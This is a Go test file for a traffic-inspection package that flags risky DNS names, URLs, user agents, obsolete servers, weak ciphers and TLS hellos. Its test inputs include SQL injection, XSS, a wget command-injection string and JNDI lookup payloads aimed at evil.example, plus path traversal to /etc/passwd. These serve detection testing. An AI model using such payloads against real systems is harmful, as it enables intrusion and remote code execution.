package dpi

import (
	"strings"
	"testing"

	"github.com/tapwatch/tapwatch/proto/flow"
)

func TestNameRisks(t *testing.T) {
	for name, want := range map[string]flow.Risk{
		"www.example.org":               0,
		"xn--bcher-kva.example":         flow.RiskPunycodeIDN,
		"www.xqkzjvwpqxhgtr.com":        flow.RiskSuspiciousDGADomain,
		"k8s3j9q2x7w1.example.org":      0, // not the registered part
		"encyclopaediabritannica.com":   0,
		"stackoverflow.com":             0,
		"a1b2c3d4e5f6.net":              flow.RiskSuspiciousDGADomain,
		"qwzkxjvbqpfg.co.uk":            flow.RiskSuspiciousDGADomain,
		"1.0.0.127.in-addr.arpa":        0,
		"x.local":                       0,
		"":                              0,
		strings.Repeat("a.", 120) + "b": 0,
	} {
		if got := nameRisks(name); got != want {
			t.Errorf("%.40s: %v, want %v", name, got.Names(), want.Names())
		}
	}
	for name, want := range map[string]flow.Risk{
		"www.example.org":                        0,
		strings.Repeat("a", 49) + ".example.org": flow.RiskDNSSuspiciousTraffic,
		strings.Repeat("abcdefg.", 14) + "test":  flow.RiskDNSSuspiciousTraffic,
		`a\009b.example`:                         flow.RiskInvalidCharacters,
		strings.Repeat("1.", 60) + "ip6.arpa":    0,
	} {
		if got := queryRisks(name); got != want {
			t.Errorf("query %.40s: %v, want %v", name, got.Names(), want.Names())
		}
	}
}

func TestURLRisks(t *testing.T) {
	for target, want := range map[string]flow.Risk{
		"/index.html?a=b&c=d":                       0,
		"/search?q=Select+a+union":                  0,
		"/?id=1%27%20UNION%20SELECT%20password":     flow.RiskURLPossibleSQLInjection,
		"/?id=1'+or+'1'='1":                         flow.RiskURLPossibleSQLInjection,
		"/?q=%3CScript%3Ealert(1)":                  flow.RiskURLPossibleXSS,
		"/cgi-bin/x?cmd=;wget+http://evil.example/": flow.RiskURLPossibleRCEInjection,
		"/?x=${jndi:ldap://evil.example/a}":         flow.RiskURLPossibleRCEInjection,
		"/../../../../boot.ini":                     flow.RiskHTTPSuspiciousURL,
		"/..%2f../../etc/passwd":                    flow.RiskURLPossibleRCEInjection | flow.RiskHTTPSuspiciousURL,
		"/a%00b":                                    flow.RiskHTTPSuspiciousURL,
		"/%":                                        0,
		"/%4":                                       0,
		"":                                          0,
		"/" + strings.Repeat("%41", 5000):           0,
	} {
		if got := urlRisks([]byte(target)); got != want {
			t.Errorf("%.50s: %v, want %v", target, got.Names(), want.Names())
		}
	}
}

func TestAgentRisks(t *testing.T) {
	for agent, want := range map[string]flow.Risk{
		"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/118.0": 0,
		"sqlmap/1.7#stable":                                        flow.RiskHTTPSuspiciousUserAgent,
		"Mozilla/5.0 (compatible; Googlebot/2.1)":                  flow.RiskHTTPCrawlerBot,
		"${jndi:ldap://a}":                                         flow.RiskHTTPSuspiciousUserAgent,
		strings.Repeat("x", 300):                                   flow.RiskHTTPSuspiciousUserAgent,
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; a spider": flow.RiskHTTPSuspiciousUserAgent | flow.RiskHTTPCrawlerBot,
	} {
		if got := judgeAgent([]byte(agent)); got != want {
			t.Errorf("%.40s: %v, want %v", agent, got.Names(), want.Names())
		}
	}
}

func TestHostsServersAndCiphers(t *testing.T) {
	for host, want := range map[string]bool{"192.0.2.1": true, "192.0.2.1:8080": true, "[2001:db8::1]": true, "[": true, "example.org": false,
		"1.2.3": false, "": false, "a.1": false, "192.0.2.1.": false} {
		if numericHost([]byte(host)) != want {
			t.Errorf("%q is numeric: %v", host, !want)
		}
	}
	for server, want := range map[string]flow.Risk{"Apache/2.2.15 (CentOS)": flow.RiskHTTPObsoleteServer, "Apache/2.4.57": 0, "Apache": 0, "Apache/x": 0,
		"nginx/1.2.1": flow.RiskHTTPObsoleteServer, "nginx/1.24.0": 0, "Microsoft-IIS/6.0": flow.RiskHTTPObsoleteServer, "Microsoft-IIS/10.0": 0, "nginx/": 0} {
		if got := obsoleteServer(server); got != want {
			t.Errorf("%s: %v", server, got.Names())
		}
	}
	for cipher, weak := range map[uint16]bool{0x0000: true, 0x0004: true, 0x0005: true, 0x000a: true, 0x0007: false, 0x002f: false, 0x0035: false, 0x003b: true,
		0x009c: false, 0x1301: false, 0xc02f: false, 0xc011: true, 0xc012: true, 0xc013: false, 0xcca8: false, 0xc033: true} {
		if weakCipher(cipher) != weak {
			t.Errorf("%#04x is weak: %v", cipher, !weak)
		}
	}
}

// TestHelloRisks holds what Go's client says against what is missing in it.
func TestHelloRisks(t *testing.T) {
	for _, tt := range []struct {
		name, sni string
		alpn      []string
		want      flow.Risk
	}{
		{"web", "example.org", []string{"h2", "http/1.1"}, 0},
		{"no alpn", "example.org", nil, flow.RiskTLSNotCarryingHTTPS},
		{"no name", "", []string{"h2"}, flow.RiskTLSMissingSNI | flow.RiskTLSALPNSNIMismatch},
		{"odd alpn", "example.org", []string{"beacon"}, flow.RiskTLSUncommonALPN},
	} {
		k := newTalk(t, protoTCP, 443)
		hello := goHello(t, "example.org", tt.alpn...)
		if tt.sni == "" {
			hello = strings.Replace(hello, "\x00\x00\x00\x10\x00\x0e\x00\x00\x0bexample.org", "\xee\xee\x00\x10\x00\x0e\x00\x00\x0bexample.org", 1)
		}
		k.send(sideSrc, hello)
		if r := k.end(); r.Risks != tt.want || r.TLSSNI != tt.sni {
			t.Errorf("%s: %v for %q", tt.name, r.Risks.Names(), r.TLSSNI)
		}
	}
}
